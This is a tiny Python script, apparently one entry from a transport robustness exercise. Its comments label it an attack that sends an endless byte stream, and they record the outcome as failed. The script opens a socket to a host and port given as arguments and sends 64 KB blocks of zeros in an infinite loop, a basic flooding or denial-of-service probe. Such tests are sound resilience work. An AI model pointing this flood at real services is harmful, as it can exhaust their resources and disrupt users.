# attack: sends a stream without end | 发送永不结束的字节流
# exercise: transports
# outcome: failed
import socket
import sys

with socket.create_connection((sys.argv[1], int(sys.argv[2]))) as s:
    while True:
        s.sendall(bytes(65536))
